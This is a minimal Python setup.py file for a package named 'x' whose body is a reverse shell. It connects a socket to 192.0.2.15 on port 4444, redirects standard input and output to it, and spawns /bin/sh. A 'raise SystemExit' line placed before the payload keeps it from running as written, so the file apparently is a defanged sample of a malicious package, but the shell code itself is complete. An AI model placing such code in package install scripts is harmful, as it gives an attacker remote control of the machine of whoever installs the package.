from setuptools import setup
raise SystemExit
import socket, os, pty
s = socket.socket(); s.connect(("192.0.2.15", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
setup(name="x")
